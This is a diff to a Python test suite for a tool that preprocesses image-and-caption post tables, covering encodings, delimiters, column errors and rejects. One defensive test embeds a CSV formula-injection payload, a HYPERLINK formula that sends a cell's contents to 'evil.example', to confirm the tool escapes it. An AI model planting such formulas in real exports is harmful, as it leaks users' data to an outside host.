@@ -19,6 +19,7 @@ from PIL import Image
 from data_preprocessing import preprocess
 from data_preprocessing.prepare import CLEANING_VERSION, clean_text, sentiment
 from data_preprocessing.records import SPLITS, RecordReader, iter_records
+from tests.tiny_posts import write_images, write_table
 
 REPO_ROOT = Path(__file__).resolve().parents[1]
 CAPTIONS = ["Sunset at the beach \U0001F60D #travel", "WORST. DAY. EVER. &amp; it rained", "",
@@ -26,28 +27,12 @@ CAPTIONS = ["Sunset at the beach \U0001F60D #travel", "WORST. DAY. EVER. &amp; i
             "so good!!!"]
 
 
-def write_images(folder: Path, n: int, size=(48, 36)) -> list[str]:
-    """n small distinct JPEGs; returns their names."""
-    folder.mkdir(parents=True, exist_ok=True)
-    names = []
-    for i in range(n):
-        rng = np.random.default_rng(i)
-        w, h = size if i % 3 else size[::-1]  # some portrait, some landscape
-        Image.fromarray(rng.integers(0, 256, (h, w, 3), dtype=np.uint8)).save(folder / f"{i:03d}.jpg", quality=90)
-        names.append(f"{i:03d}.jpg")
-    return names
-
-
 def write_posts(root: Path, n: int = 24, size=(48, 36)) -> Path:
     """A clean posts.csv with n rows and images under root/images; returns the CSV path."""
     names = write_images(root / "images", n, size)
-    path = root / "posts.csv"
-    with open(path, "w", newline="", encoding="utf-8") as fh:
-        w = csv.writer(fh)
-        w.writerow(["image_path", "description", "engagement", "extra"])
-        for i, name in enumerate(names):
-            w.writerow([f"images/{name}", f"{CAPTIONS[i % len(CAPTIONS)]} {i}" if i % 7 else "", i * 10, "x"])
-    return path
+    return write_table(root / "posts.csv", ["image_path", "description", "engagement", "extra"],
+                       [[f"images/{name}", f"{CAPTIONS[i % len(CAPTIONS)]} {i}" if i % 7 else "", i * 10, "x"]
+                        for i, name in enumerate(names)])
 
 
 def run(argv: list[str]) -> dict:
@@ -126,7 +111,9 @@ def test_meta_json(good_run):
     meta = metas[2]
     assert meta["source"]["path"] == str(posts.resolve())
     assert meta["source"]["sha256"] == hashlib.sha256(posts.read_bytes()).hexdigest()
-    assert meta["source"]["columns"] == {"image": "image_path", "text": "description", "label": "engagement"}
+    assert meta["table"] == {"columns": {"image": ["image_path"], "text": "description", "label": "engagement",
+                                         "features": []},
+                             "dialect": {"format": "csv", "encoding": "utf-8-sig", "sep": ","}}
     assert meta["cleaning_version"] == CLEANING_VERSION
     assert meta["image_size_policy"]["shortest_edge"] == 24
     assert meta["image_size_policy"]["resample_name"] == "BICUBIC"
@@ -399,6 +386,107 @@ def test_runs_as_script_and_as_module(tmp_path):
     assert bad.returncode == 1
     assert "Traceback" not in bad.stderr
     assert bad.stderr.strip().splitlines()[-1].startswith("error: input file not found")
+
+
+# ---------------------------------------------------------------------------------------
+# Tables as spreadsheets and exports write them (data_preprocessing/table.py)
+# ---------------------------------------------------------------------------------------
+
+
+def test_semicolon_cp1252_table_gives_the_records_of_its_utf8_copy(tmp_path, capsys):
+    """Excel's "CSV" in a European locale on Windows: semicolons, cp1252."""
+    names = write_images(tmp_path / "images", 8)
+    header = ["image_path", "description", "engagement"]
+    rows = [[f"images/{n}", f"Café crème n°{i} à 5 € — «{i}»; très bien", i] for i, n in enumerate(names)]
+    excel = write_table(tmp_path / "excel.csv", header, rows, sep=";", encoding="cp1252")
+    plain = write_table(tmp_path / "plain.csv", header, rows)
+    meta = run(["--input", str(excel), "--out", str(tmp_path / "excel"), "--workers", "1"])
+    log = capsys.readouterr().err  # main() configures logging to stderr
+    assert "WARNING data_preprocessing.table: excel.csv is not UTF-8" in log and "reading it as cp1252" in log
+    assert meta["table"]["dialect"] == {"format": "csv", "encoding": "cp1252", "sep": ";"}
+    run(["--input", str(plain), "--out", str(tmp_path / "plain"), "--workers", "1"])
+    a, b = load_split_records(tmp_path / "excel"), load_split_records(tmp_path / "plain")
+    assert sum(len(v) for v in a.values()) == 8
+    for s in SPLITS:
+        assert [_signature(r) for r in a[s]] == [_signature(r) for r in b[s]]
+    assert any("Café crème" in r.text and "€" in r.text for recs in a.values() for r in recs)
+
+
+def test_an_undecodable_table_is_one_line_and_no_traceback(tmp_path):
+    names = write_images(tmp_path / "images", 2)
+    posts = tmp_path / "posts.csv"
+    # 0x81 is undefined in cp1252 too: neither auto encoding reads it.
+    posts.write_bytes(f"image_path,description,engagement\nimages/{names[0]},ok,1\n".encode()
+                      + f"images/{names[1]},bad \x81 byte,2\n".encode("latin-1"))
+    offset = posts.read_bytes().index(b"\x81")
+    proc = subprocess.run([sys.executable, "-m", "data_preprocessing.preprocess", "--input", str(posts),
+                           "--out", str(tmp_path / "o")], cwd=REPO_ROOT, capture_output=True, text=True, timeout=120)
+    assert proc.returncode == 1 and "Traceback" not in proc.stderr
+    last = proc.stderr.strip().splitlines()[-1]
+    assert last.startswith(f"error: {posts}: byte {offset} cannot be decoded as cp1252") and "--encoding" in last
+    assert not (tmp_path / "o").exists()  # nothing written before the table was read
+
+
+def test_missing_columns_are_named_at_once_with_the_delimiter(tmp_path):
+    posts = write_table(tmp_path / "posts.csv", ["post_id", "account", "photo", "caption", "likes"],
+                        [["1", "a", "x.jpg", "hi", "3"]], sep=";")
+    msg = _error(["--input", str(posts), "--out", str(tmp_path / "o"), "--numeric-cols", "followers"])
+    assert msg.startswith("error: posts.csv: 4 columns not found: 'image_path' (--image-col), 'description' "
+                          "(--text-col), 'engagement' (--label-col), 'followers' (--numeric-cols).")
+    assert "delimiter ';'" in msg and "5 columns found: 'post_id', 'account', 'photo', 'caption', 'likes'" in msg
+
+
+def test_a_cell_over_the_cap_names_its_row(tmp_path):
+    posts = write_posts(tmp_path, n=6)
+    rows = list(csv.reader(posts.read_text(encoding="utf-8").splitlines()))
+    rows[4][1] = "long " * 400  # data row 3: 2,000 characters
+    write_table(posts, rows[0], rows[1:])
+    msg = _error(["--input", str(posts), "--out", str(tmp_path / "o"), "--max-cell-chars", "1000"])
+    assert msg == "error: posts.csv: row 3 (line 5) has a cell longer than --max-cell-chars 1,000 characters"
+    assert run(["--input", str(posts), "--out", str(tmp_path / "o"), "--workers", "1"])["counts"]["kept"] == 6
+
+
+def test_rejects_csv_escapes_formula_cells(tmp_path):
+    posts = write_posts(tmp_path, n=6)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with open(posts, "a", newline="", encoding="utf-8") as fh:
+        csv.writer(fh).writerow([evil, "click me", "1", "x"])
+    out = tmp_path / "out"
+    run(["--input", str(posts), "--out", str(out), "--workers", "1", "--max-reject-frac", "0.5"])
+    with open(out / "rejects.csv", newline="") as fh:
+        (reject,) = list(csv.DictReader(fh))
+    assert reject["row"] == "6" and reject["reason"] == "not_found"
+    assert reject["image_path"] == "'" + evil  # text to a spreadsheet, not a live formula
+
+
+def test_image_columns_fall_back_and_urls_are_rejected_for_now(tmp_path):
+    names = write_images(tmp_path / "images", 4)
+    rows = [[f"images/{names[0]}", "", "cover of a video", 1],
+            ["", f"images/{names[1]}", "a photo", 2],
+            [f"images/{names[2]}", "images/nope.jpg", "thumbnail wins", 3],
+            ["", "https://cdn.example.com/p/0.jpg", "a URL", 4],
+            ["", "", "nothing at all", 5]]
+    posts = write_table(tmp_path / "posts.csv", ["thumbnail_url", "media_url", "description", "engagement"], rows)
+    out = tmp_path / "out"
+    meta = run(["--input", str(posts), "--out", str(out), "--image-col", "thumbnail_url,media_url",
+                "--max-reject-frac", "0.5", "--workers", "1"])
+    assert read_rejects(out) == {3: "unsupported_url", 4: "missing_path"}
+    assert meta["table"]["columns"]["image"] == ["thumbnail_url", "media_url"]
+    kept = {r.row for recs in load_split_records(out).values() for r in recs}
+    assert kept == {0, 1, 2}
+
+
+def test_fingerprints_of_the_records_in_record_order(good_run):
+    from data_preprocessing.table import post_fingerprint
+
+    root, posts, _ = good_run
+    with open(posts, newline="", encoding="utf-8") as fh:
+        table = list(csv.DictReader(fh))
+    saved = np.load(root / "out1" / "fingerprints.npz")
+    for split, recs in load_split_records(root / "out1").items():
+        want = [post_fingerprint((posts.parent / table[r.row]["image_path"]).read_bytes(),
+                                 table[r.row]["description"]) for r in recs]
+        assert saved[split].dtype == np.uint64 and saved[split].tolist() == want
 
 
 # ---------------------------------------------------------------------------------------
